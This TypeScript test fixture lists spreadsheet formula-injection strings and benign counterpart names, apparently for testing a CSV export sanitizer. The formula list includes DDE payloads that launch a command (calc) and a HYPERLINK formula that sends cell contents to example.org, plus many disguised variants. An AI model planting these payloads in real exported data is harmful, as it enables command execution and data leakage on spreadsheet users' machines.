/** Texts with which a spreadsheet could be made to compute, call or leak, as people might type them into a name. */
export const formulas: readonly string[] = [
  '=1+1', '=cmd|\'/c calc\'!A0', '=HYPERLINK("http://example.org/?"&A1,"x")', '=WEBSERVICE("http://example.org")', '+1+1', '+212600000000', '-1+1', '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0', '@x', '\t=1+1', '\ttab', '\r=1+1', '\rreturn', '\n=1+1', '\nline', ' =1+1', '   +1', '\u00a0=1+1', '\u202f-1', '\u200b=1+1', '\u200f=1+1', '\u202e=1+1', '\ufeff=1+1', '\u0000=1+1', '\u0001\t=1+1',
  '\uff1d1+1', '\uff0b1', '\uff0d1', '\uff20x', '\ufe66x', '\ufe62x', '\ufe63x', '\ufe6bx', '\u22121', '\u207a1', '\u3000\uff1d1', '"=1+1', '=1+1"', ';=1+1', ',=1+1', '%0A=1+1', "'=1+1", '=\u0000', '\ud800=1+1',
];

/** Texts that are no formula and must come through as they are. */
export const innocents: readonly string[] = ['Samira', 'سميرة', 'Jean-Marie', 'a=b', 'x@example.org', 'O’Neill', "'t Hart", '1 + 1', 'say "hi", she said', 'two\nlines', '٣', '🌍', ''];
